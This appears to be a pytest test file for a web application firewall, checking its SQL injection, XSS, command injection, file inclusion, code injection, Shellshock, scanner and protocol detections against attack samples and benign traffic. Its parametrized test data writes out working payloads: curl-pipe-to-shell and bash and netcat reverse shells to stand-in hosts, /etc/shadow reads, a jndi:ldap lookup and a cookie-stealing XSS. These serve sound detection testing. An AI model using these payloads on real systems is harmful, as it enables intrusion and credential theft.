"""Native protections: real attack and benign requests, the CRS regression corpus as a
labelled set (detection on attacks, false positives on benign stages), encodings, hostile
input and pathological sizes."""

from __future__ import annotations

import contextlib
import functools
import time
import unittest.mock
import urllib.parse
from collections import Counter
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stockade.waf.decision import Detection
from stockade.waf.errors import RequestError
from stockade.waf.ftw import Stage, build_request, load_stages
from stockade.waf.protections import (
    NATIVE_PROTECTIONS,
    CodeInjection,
    CommandInjection,
    CrossSiteScripting,
    FileInclusion,
    Protection,
    ProtocolSettings,
    ProtocolValidation,
    RequestView,
    ScannerDetection,
    Shellshock,
    SqlInjection,
    default_protections,
    default_user_agents,
    inspect_all,
)
from stockade.waf.protections.view import deep_decode, percent_decode
from stockade.waf.request import HttpRequest

DATA = Path(__file__).parent.parent / "data" / "waf"
REGRESSION = DATA / "crs" / "regression"
BROWSER_UA = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)


def get(uri: str, *headers: tuple[str, str]) -> HttpRequest:
    return HttpRequest(
        "GET", uri, headers=(("Host", "shop.example"), ("User-Agent", BROWSER_UA), *headers)
    )


def post(
    uri: str, body: str, content_type: str = "application/x-www-form-urlencoded"
) -> HttpRequest:
    data = body.encode("utf-8")
    return HttpRequest(
        "POST",
        uri,
        headers=(
            ("Host", "shop.example"),
            ("User-Agent", BROWSER_UA),
            ("Content-Type", content_type),
            ("Content-Length", str(len(data))),
        ),
        body=data,
    )


def q(value: str) -> str:
    return urllib.parse.quote(value, safe="")


def found(protection: Protection, request: HttpRequest) -> list[Detection]:
    return protection.inspect(RequestView.of(request))


def rule_ids(protection: Protection, request: HttpRequest) -> set[str]:
    return {d.rule_id for d in found(protection, request)}


# --- the request view -------------------------------------------------------------------


def test_view_decodes_query_cookies_and_bodies() -> None:
    view = RequestView.of(
        post(
            "/a%20b?x=1%2B1&y=%3Cb%3E",
            '{"user": {"name": "O\'Neil", "tags": ["a", "b"]}}',
            "application/json",
        )
    )
    assert view.path == "/a b"
    assert view.query_args == [("x", "1+1"), ("y", "<b>")]
    assert ("json.user.name", "O'Neil") in view.body_args
    assert ("json.user.tags.1", "b") in view.body_args
    locations = {i.location for i in view.inputs}
    assert {"ARGS:x", "ARGS:json.user.name", "REQUEST_FILENAME"} <= locations
    cookies = RequestView.of(get("/", ("Cookie", "a=1; b=%3Cx%3E"))).cookies
    assert cookies == [("a", "1"), ("b", "%3Cx%3E")]


def test_deep_decode_reaches_what_lenient_back_ends_see() -> None:
    assert deep_decode("%252e%252e%252f") == "../"
    assert deep_decode("%u002e%u002e%u2215") != "%u002e%u002e%u2215"
    assert deep_decode("%uFF0E%uFF0E/") == "../"
    assert deep_decode("%c0%ae%c0%ae%c0%af") == "../"
    assert deep_decode("\xef\xbc\x8e\xef\xbc\x8e/") == "../"
    assert percent_decode("100%") == "100%"
    assert percent_decode("%zz%4") == "%zz%4"


def test_body_limit_truncates_and_suppresses_parse_errors() -> None:
    big = '{"a": "' + "x" * 5000 + '"}'
    view = RequestView.of(post("/", big, "application/json"), body_limit=100)
    assert view.body_truncated
    assert len(view.body) == 100
    assert view.body_error == ""


# --- each protection on real attacks and their benign look-alikes -----------------------


@pytest.mark.parametrize(
    "request_",
    [
        get("/item?id=" + q("1' OR '1'='1")),
        get("/item?id=" + q("1 UNION ALL SELECT username, password FROM users--")),  # noqa: S608
        get("/item?id=" + q("1; DROP TABLE users")),
        get("/item?id=" + q("1 AND SLEEP(5)")),
        get("/item?id=" + q("1' AND extractvalue(1, concat(0x7e, version()))-- -")),
        get("/item?id=" + q(q("1' or 1=1--"))),  # double-encoded
        get("/", ("Cookie", "session=" + q("x' or '1'='1"))),
        get("/", ("Referer", "https://a.example/?q=1' union select null,null--")),
        post("/login", "user=" + q("admin'--") + "&pass=x"),
        post(
            "/api", '{"filter": {"id": "1 union select password from users"}}', "application/json"
        ),
        post("/api", '{"user": {"$ne": null}}', "application/json"),
        get("/item?id[$gt]="),
    ],
)
def test_sql_injection_detected(request_: HttpRequest) -> None:
    detections = found(SqlInjection(), request_)
    assert detections, request_.uri
    assert all(d.protection == "sqli" for d in detections)


@pytest.mark.parametrize(
    "request_",
    [
        get("/search?q=" + q("<script>alert(document.cookie)</script>")),
        get("/search?q=" + q('"><img src=x onerror=alert(1)>')),
        get("/search?q=" + q("<svg/onload=alert`1`>")),
        get("/go?url=" + q("javascript:alert(1)")),
        get("/go?url=" + q("java\tscript:alert(1)")),
        get("/search?q=" + q("&lt;script&gt;alert(1)&lt;/script&gt;")),
        get("/search?q=" + q("\\u003cscript\\u003ealert(1)")),
        get("/search?q=" + q(q("<iframe src=//evil.example>"))),
        get("/", ("X-Custom", "<script>alert(1)</script>")),
        post(
            "/comment", "body=" + q("<details open ontoggle=fetch('//e.example/'+document.cookie)>")
        ),
        get("/p?x=" + q("+ADw-script+AD4-alert(1)")),
    ],
)
def test_xss_detected(request_: HttpRequest) -> None:
    assert found(CrossSiteScripting(), request_), request_.uri


@pytest.mark.parametrize(
    "request_",
    [
        get("/ping?host=" + q("127.0.0.1; cat /etc/passwd")),
        get("/ping?host=" + q("127.0.0.1 && whoami")),
        get("/ping?host=" + q("127.0.0.1 | id")),
        get("/ping?host=" + q("`id`")),
        get("/ping?host=" + q("$(curl http://evil.example/x.sh|sh)")),
        get("/ping?host=" + q("x;c'a't${IFS}/etc/shadow")),
        get("/ping?host=" + q("x;/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
        get("/ping?host=" + q("x & cmd.exe /c dir")),
        get("/ping?host=" + q("x; powershell -enc SQBFAFgA")),
        get("/ping?host=" + q("x\nnc -e /bin/sh 10.0.0.1 4444")),
    ],
)
def test_command_injection_detected(request_: HttpRequest) -> None:
    assert found(CommandInjection(), request_), request_.uri


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (get("/download?file=" + q("../../../../etc/passwd")), "lfi.traversal"),
        (get("/download?file=" + q("..\\..\\windows\\win.ini")), "lfi.traversal"),
        (get("/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow"), "lfi.traversal"),
        (get("/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts"), "lfi.traversal"),
        (get("/download?file=%uff0e%uff0e/boot.ini"), "lfi.traversal"),
        (get("/static/..%2f..%2f..%2fetc/passwd"), "lfi.traversal"),
        (get("/view?page=/proc/self/environ"), "lfi.os-file"),
        (get("/view?page=" + q("image.php%00.jpg")), "lfi.null-byte"),
        (get("/view?page=file:///srv/app/config.yml"), "lfi.file-url"),
        (get("/.git/config"), "lfi.restricted-file"),
        (get("/.env"), "lfi.restricted-file"),
        (get("/backup/db.sql.gz"), "lfi.restricted-file"),
    ],
)
def test_file_inclusion_detected(request_: HttpRequest, rule: str) -> None:
    assert rule in rule_ids(FileInclusion(), request_), request_.uri


def test_well_known_hidden_path_allowed_and_configurable() -> None:
    assert not found(FileInclusion(), get("/.well-known/security.txt"))
    assert found(FileInclusion(), get("/.auth/login"))
    assert not found(FileInclusion(allowed_hidden=(".auth",)), get("/.auth/login"))


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (get("/x?c=" + q("<?php echo 1; ?>")), "code.php-tag"),
        (get("/x?c=" + q("system('id');")), "code.php-function"),
        (get("/x?c=" + q("eval(base64_decode('ZWNobyAx'))")), "code.php-function"),
        (
            get("/x?inc=" + q("php://filter/convert.base64-encode/resource=index.php")),
            "code.php-wrapper",
        ),
        (get("/x?o=" + q('O:8:"stdClass":1:{s:1:"a";i:1;}')), "code.php-object"),
        (get("/x?q=" + q("process.mainModule.constructor._load('child_process')")), "code.node"),
        (get("/x?q=" + q("__import__('os').system('id')")), "code.python"),
        (get("/x?name=" + q("{{config.__class__.__init__.__globals__}}")), "code.python"),
        (get("/x?name=" + q("{{7*7}}")), "code.template"),
        (get("/", ("X-Api-Version", "${jndi:ldap://evil.example/a}")), "code.java"),
        (get("/", ("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/a}")), "code.java"),
    ],
)
def test_code_injection_detected(request_: HttpRequest, rule: str) -> None:
    assert rule in rule_ids(CodeInjection(), request_), request_.uri


def test_php_upload_detected_in_multipart_file_name() -> None:
    body = (
        '--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n'
        "<?php echo 1; ?>\r\n--b--\r\n"
    )
    assert "code.php-upload" in rule_ids(
        CodeInjection(), post("/upload", body, "multipart/form-data; boundary=b")
    )


def test_shellshock_in_headers_and_arguments() -> None:
    assert rule_ids(Shellshock(), get("/cgi-bin/status", ("User-Agent", "() { :; }; /bin/ls"))) == {
        "shellshock.header"
    }
    assert rule_ids(Shellshock(), get("/x?a=" + q("() { :;}; echo vulnerable"))) == {
        "shellshock.argument"
    }
    assert not found(Shellshock(), get("/x?a=" + q("f() and g() {are functions}")))


@pytest.mark.parametrize(
    "agent",
    [
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Fuzz Faster U Fool v2.1.0-dev",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    ],
)
def test_scanner_user_agents(agent: str) -> None:
    detections = found(ScannerDetection(), get("/", ("User-Agent", agent)))
    assert [d.rule_id for d in detections] == ["scanner.user-agent"], agent


def test_scanner_list_is_data_and_extensible() -> None:
    agents = default_user_agents()
    assert {"nikto", "sqlmap", "nmap", "masscan", "zgrab"} <= set(agents)
    assert all(a == a.lower() and not a.startswith("#") for a in agents)
    assert not found(ScannerDetection(), get("/", ("User-Agent", "acme-crawler/1.0")))
    assert found(
        ScannerDetection(extra=["acme-crawler"]), get("/", ("User-Agent", "Acme-Crawler/1"))
    )
    assert found(ScannerDetection(), get("/", ("X-Scan-Memo", "Category=Audit")))


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (HttpRequest("GET", "/", headers=(("User-Agent", "x"),)), "protocol.missing-host"),
        (HttpRequest("GET", "/", headers=(("Host", "a"), ("Host", "b"))), "protocol.multiple-host"),
        (
            HttpRequest("POST", "/", headers=(("Host", "a"), ("Content-Length", "1x")), body=b"a"),
            "protocol.content-length",
        ),
        (
            HttpRequest(
                "POST",
                "/",
                headers=(("Host", "a"), ("Content-Length", "3"), ("Content-Length", "4")),
                body=b"abc",
            ),
            "protocol.content-length",
        ),
        (
            HttpRequest(
                "POST",
                "/",
                headers=(("Host", "a"), ("Content-Length", "3"), ("Transfer-Encoding", "chunked")),
                body=b"abc",
            ),
            "protocol.cl-te",
        ),
        (
            HttpRequest(
                "POST", "/", headers=(("Host", "a"), ("Transfer-Encoding", "chunked, gzip"))
            ),
            "protocol.transfer-encoding",
        ),
        (get("/a?b=%zz"), "protocol.url-encoding"),
        (get("/a?b=%u0027"), "protocol.url-encoding"),
        (HttpRequest("TRACE", "/", headers=(("Host", "a"),)), "protocol.method"),
        (HttpRequest("G<T", "/", headers=(("Host", "a"),)), "protocol.method"),
        (
            HttpRequest("GET", "/", protocol="HTTP/0.9", headers=(("Host", "a"),)),
            "protocol.version",
        ),
        (get("/", ("X-Long", "a" * 9000)), "protocol.header-length"),
        (get("/", ("X-Evil", "a\r\nSet-Cookie: x=1")), "protocol.header-control"),
        (get("/", ("X-Evil", "a%0d%0aSet-Cookie:%20x=1")), "protocol.header-control"),
        (get("/", ("Proxy", "http://evil.example:8080")), "protocol.restricted-header"),
        (get("/", ("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11")), "protocol.range"),
        (get("/", ("Range", "bytes=10-5")), "protocol.range"),
        (get("/", ("Connection", "keep-alive, close")), "protocol.connection"),
        (
            get("/x?lang=" + q("en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK")),
            "protocol.response-splitting",
        ),
        (get("/x?a=" + q("GET /admin HTTP/1.1")), "protocol.smuggling"),
        (post("/", "{not json", "application/json"), "protocol.body-parse"),
        (post("/", "x", "application/x-evil"), "protocol.content-type"),
        (
            post("/", "a=1", "application/x-www-form-urlencoded; charset=utf-7"),
            "protocol.content-type",
        ),
        (
            HttpRequest("GET", "/", headers=(("Host", "a"), ("Content-Length", "4")), body=b"abcd"),
            "protocol.get-body",
        ),
        (HttpRequest("GET", "/a\x01b", headers=(("Host", "a"),)), "protocol.uri-control"),
    ],
)
def test_protocol_violations(request_: HttpRequest, rule: str) -> None:
    assert rule in rule_ids(ProtocolValidation(), request_)


def test_protocol_settings_change_limits() -> None:
    strict = ProtocolValidation(ProtocolSettings(allowed_methods=("GET",), max_header_length=10))
    assert "protocol.method" in rule_ids(strict, HttpRequest("POST", "/", headers=(("Host", "a"),)))
    assert "protocol.header-length" in rule_ids(strict, get("/", ("X-A", "a" * 11)))
    assert not rule_ids(ProtocolValidation(), get("/", ("X-A", "a" * 11)))


def test_credentials_are_redacted_in_matched_data() -> None:
    detections = found(SqlInjection(), post("/login", "password=" + q("x' or '1'='1")))
    assert detections
    assert detections[0].location == "ARGS:password"
    assert "or" not in detections[0].matched
    assert detections[0].matched.startswith("[redacted")


def test_matched_data_is_bounded_and_single_line() -> None:
    payload = "<script>alert(1)</script>\r\n" + "x" * 10_000
    detections = found(CrossSiteScripting(), get("/x?a=" + q(payload)))
    assert detections
    assert len(detections[0].matched) <= 80 * 4
    assert "\n" not in detections[0].matched


# --- benign traffic ------------------------------------------------------------------------


def _benign_requests() -> list[tuple[str, HttpRequest]]:
    document = yaml.safe_load((DATA / "benign" / "requests.yaml").read_text(encoding="utf-8"))
    out = []
    for entry in document["requests"]:
        body = str(entry.get("body", "")).encode("utf-8")
        headers = tuple((str(k), str(v)) for k, v in entry["headers"].items())
        if body:
            headers += (("Content-Length", str(len(body))),)
        out.append(
            (entry["name"], HttpRequest(entry["method"], entry["uri"], headers=headers, body=body))
        )
    return out


def test_benign_corpus_raises_nothing() -> None:
    requests = _benign_requests()
    assert len(requests) >= 90
    protections = default_protections()
    flagged = {
        name: [(d.rule_id, d.location) for d in inspect_all(RequestView.of(r), protections)]
        for name, r in requests
    }
    assert {name: hits for name, hits in flagged.items() if hits} == {}


# --- the CRS regression corpus as a labelled set ------------------------------------------

ATTACK_FILES = {
    "sqli": ("942",),
    "xss": ("941",),
    "cmdi": ("932",),
    "lfi": ("930",),
    "code": ("933",),
    "scanner": ("913",),
    "protocol": ("920", "921"),
}
# Measured rates minus a small margin: a change that loses detections fails here.
DETECTION_FLOOR = {
    "sqli": 0.33,
    "xss": 0.60,
    "cmdi": 0.36,
    "lfi": 0.88,
    "code": 0.44,
    "scanner": 1.0,
    "protocol": 0.38,
}


def _c_safe_load(stream: str) -> object:
    return yaml.load(stream, Loader=yaml.CSafeLoader)  # CSafeLoader: the C build of the safe loader


def load_corpus_stages() -> list[Stage]:
    """The go-ftw stages, parsed with libyaml (same result as the pure-Python loader
    load_stages uses, five times faster)."""
    with unittest.mock.patch.object(yaml, "safe_load", _c_safe_load):
        return list(load_stages(REGRESSION))


@functools.cache
def _corpus() -> tuple[list[tuple[Stage, frozenset[str]]], int]:
    """(stage, protections that fired) for every stage with expectations; how many stages
    could not be built into a request (a server would refuse them before any WAF)."""
    protections = default_protections()
    rows = []
    unparsable = 0
    for stage in load_corpus_stages():
        if not stage.checks_log:
            continue
        try:
            request = build_request(stage.input)
        except RequestError:
            unparsable += 1
            continue
        fired = frozenset(d.protection for d in inspect_all(RequestView.of(request), protections))
        rows.append((stage, fired))
    return rows, unparsable


def _rates() -> dict[str, tuple[int, int]]:
    rows, _ = _corpus()
    rates: dict[str, tuple[int, int]] = {}
    for protection, files in ATTACK_FILES.items():
        attacks = [
            fired for stage, fired in rows if stage.expect_ids and stage.rule_file[8:11] in files
        ]
        rates[protection] = (sum(1 for fired in attacks if protection in fired), len(attacks))
    return rates


@pytest.mark.parametrize("protection", sorted(ATTACK_FILES))
def test_crs_attack_stages_detected(protection: str) -> None:
    detected, total = _rates()[protection]
    assert total > 0
    assert detected / total >= DETECTION_FLOOR[protection], (protection, detected, total)


def test_crs_no_detection_stages_false_positive_rate() -> None:
    rows, _ = _corpus()
    negatives = [fired for stage, fired in rows if stage.no_expect_ids and not stage.expect_ids]
    assert len(negatives) > 900
    per_protection = Counter(p for fired in negatives for p in fired)
    any_flag = sum(1 for fired in negatives if fired)
    # Many of these stages are attacks that one specific CRS rule must not see (CRS's own
    # PL1 engine blocks 178 of the 994); the bound keeps regressions visible.
    assert any_flag / len(negatives) <= 0.12, per_protection
    for protection in ("sqli", "xss", "cmdi", "lfi", "code", "scanner", "shellshock"):
        assert per_protection[protection] / len(negatives) <= 0.03, (protection, per_protection)


# --- hostile input ------------------------------------------------------------------------

latin1 = st.text(alphabet=st.characters(max_codepoint=255), max_size=200)
header_name = st.text(alphabet="abcdefghijklmnopqrstuvwxyz-ABC", min_size=1, max_size=20)


@given(
    st.sampled_from(["GET", "POST", "PUT", "G\x00T", ""]),
    latin1,
    st.lists(st.tuples(st.one_of(header_name, latin1), latin1), max_size=8),
    st.binary(max_size=400),
    st.sampled_from(
        [
            "application/json",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "text/xml",
            "text/plain",
        ]
    ),
)
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_hostile_requests_never_raise(
    method: str, target: str, headers: list[tuple[str, str]], body: bytes, content_type: str
) -> None:
    request = HttpRequest(
        method,
        "/" + target,
        headers=(*headers, ("Content-Type", content_type)),
        body=body,
    )
    view = RequestView.of(request)
    for detection in inspect_all(view, default_protections()):
        assert detection.protection in NATIVE_PROTECTIONS
        assert len(detection.matched) <= 400


@given(st.text(max_size=300))
@settings(max_examples=200)
def test_unicode_values_never_raise(value: str) -> None:
    with contextlib.suppress(UnicodeEncodeError):
        request = post("/x?a=" + q(value), "b=" + q(value) + "&" + q(value) + "=1")
        inspect_all(RequestView.of(request), default_protections())


PATHOLOGICAL = [
    "(",
    "/*",
    ";",
    "${",
    "<",
    "$a[",
    "{{",
    "../",
    "%25",
    "' or ",
    "<a ",
    "`",
    "\\",
    "|ls ",
    "\r\n",
    "%u0",
    "\xc0\xae",
    "$((",
    "/???/",
    "eval(",
    "@{[",
    "() {",
    "<?php",
    "jndi:",
    "[]",
    "+!",
    "x onx=",
    "select ",
    "a(",
    " ",
    "java.lang.",
]


@pytest.mark.parametrize("piece", PATHOLOGICAL)
def test_pathological_values_stay_linear(piece: str) -> None:
    value = piece * (32768 // len(piece))
    request = HttpRequest(
        "POST",
        "/x?a=" + q(value[:4000]),
        headers=(
            ("Host", "a"),
            ("User-Agent", value[:4000]),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ),
        body=("b=" + q(value)).encode(),
    )
    view = RequestView.of(request)
    for protection in default_protections():
        started = time.process_time()
        protection.inspect(view)
        elapsed = time.process_time() - started
        # Linear work on 32 KiB is milliseconds; quadratic would be seconds.
        assert elapsed < 0.5, (piece, protection.name, elapsed)


def test_header_memo_returns_the_same_verdict_and_stays_bounded() -> None:
    protection = SqlInjection()
    attack = get("/", ("User-Agent", "x' union select password from users--"))
    first = found(protection, attack)
    second = found(protection, attack)
    assert first == second
    assert first
    assert not found(protection, get("/", ("User-Agent", BROWSER_UA)))
    for index in range(5000):
        found(protection, get("/", ("User-Agent", f"agent {index}")))
    assert len(protection._memo._entries) <= protection._memo.max_entries


def test_libinjection_c_api_agrees_with_the_wrapper() -> None:
    from stockade.waf.protections import libinjection_c

    assert libinjection_c.NATIVE, "the C API of libinjection-python is expected to be exported"
    wrapper = libinjection_c.wrapper()
    rows, _ = _corpus()
    values: set[str] = set()
    for stage, _ in rows[:2500]:
        with contextlib.suppress(RequestError):
            view = RequestView.of(build_request(stage.input))
            values.update(i.value for i in view.suspects if i.value.isascii())
    assert len(values) > 1000
    for value in values:
        fingerprint = libinjection_c.sqli_fingerprint(value)
        result = wrapper.is_sql_injection(value)
        assert (fingerprint is not None) == bool(result["is_sqli"]), value
        if fingerprint is not None:
            assert fingerprint == result["fingerprint"], value
        assert libinjection_c.xss(value) == bool(wrapper.is_xss(value)["is_xss"]), value
